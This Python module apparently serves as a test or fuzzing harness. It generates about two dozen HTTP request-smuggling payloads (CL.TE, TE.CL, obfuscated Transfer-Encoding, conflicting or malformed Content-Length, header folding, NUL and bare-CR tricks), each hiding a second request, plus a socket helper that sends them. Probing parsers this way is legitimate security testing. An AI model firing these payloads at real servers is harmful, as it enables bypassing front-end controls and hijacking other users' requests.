"""Requests that two programs in a row may read differently, each with a second one hidden behind it."""

from __future__ import annotations

import socket
from contextlib import suppress

ANSWER = b"HTTP/1.1 "


def attacks(host: str, hidden: bytes) -> dict[str, bytes]:
    """By name. ``hidden``: the request that nobody may come to read."""
    named = f"Host: {host}\r\n".encode()
    size = str(len(hidden)).encode()
    post = b"POST /login HTTP/1.1\r\n" + named
    get = b"GET /health HTTP/1.1\r\n" + named
    end = b"0\r\n\r\n"
    chunk = f"{len(hidden):x}\r\n".encode() + hidden + b"\r\n" + end
    return {
        "CL.TE": post + b"Content-Length: " + size + b"\r\nTransfer-Encoding: chunked\r\n\r\n" + end + hidden,
        "TE.CL": post + b"Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n" + chunk,
        "TE.TE": post + b"Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n" + end + hidden,
        "TE with a space": post + b"Transfer-Encoding : chunked\r\nContent-Length: 5\r\n\r\n" + end + hidden,
        "TE with a tab": post + b"Transfer-Encoding:\tchunked\x0b\r\nContent-Length: 5\r\n\r\n" + end + hidden,
        "TE of another name": post + b"Transfer-Encoding: xchunked\r\n\r\n" + end + hidden,
        "TE in a list": post + b"Transfer-Encoding: gzip, chunked\r\n\r\n" + end + hidden,
        "TE folded": post + b"Transfer-Encoding:\r\n chunked\r\nContent-Length: 5\r\n\r\n" + end + hidden,
        "two lengths": post + b"Content-Length: 0\r\nContent-Length: " + size + b"\r\n\r\n" + hidden,
        "lengths in a list": post + b"Content-Length: 0, " + size + b"\r\n\r\n" + hidden,
        "a length with a sign": post + b"Content-Length: +0\r\n\r\n" + hidden,
        "a length below nothing": post + b"Content-Length: -1\r\n\r\n" + hidden,
        "a length in hexadecimal": post + b"Content-Length: 0x0\r\n\r\n" + hidden,
        "a length with a line": post + b"Content-Length: 1_0\r\n\r\n" + hidden,
        "a length without end": post + b"Content-Length: " + b"9" * 60 + b"\r\n\r\n" + hidden,
        "a line folded": get + b"X: a\r\n b\r\n\r\n" + hidden,
        "a field that is none": get + b"no colon here\r\nContent-Length: " + size + b"\r\n\r\n" + hidden,
        "a field before a space": get + b" Content-Length: " + size + b"\r\n\r\n" + hidden,
        "NUL in a field": get + b"X: a\0b\r\n\r\n" + hidden,
        "a bare return": get + b"X: a\rContent-Length: " + size + b"\r\n\r\n" + hidden,
        "two hosts": get + b"Host: evil.example\r\n\r\n" + hidden,
        "no end of the head": get + b"X: " + b"a" * 70_000 + b"\r\n\r\n" + hidden,
        "many fields": get + b"".join(b"X-%d: 1\r\n" % n for n in range(9_000)) + b"\r\n" + hidden,
        "a space in the address": b"GET /health HTTP/1.1 HTTP/1.1\r\n" + named + b"\r\n" + hidden,
        "a version of the future": b"GET /health HTTP/3.7\r\n" + named + b"\r\n" + hidden,
    }


def answer_to(connection: socket.socket, sent: bytes, seconds: float = 10) -> bytes:
    """All that comes back until the server hangs up."""
    connection.settimeout(seconds)
    received = b""
    with suppress(ConnectionError, BrokenPipeError):  # it hangs up before it has heard everything
        connection.sendall(sent)
    with suppress(ConnectionError):
        while got := connection.recv(65_536):
            received += got
    return received
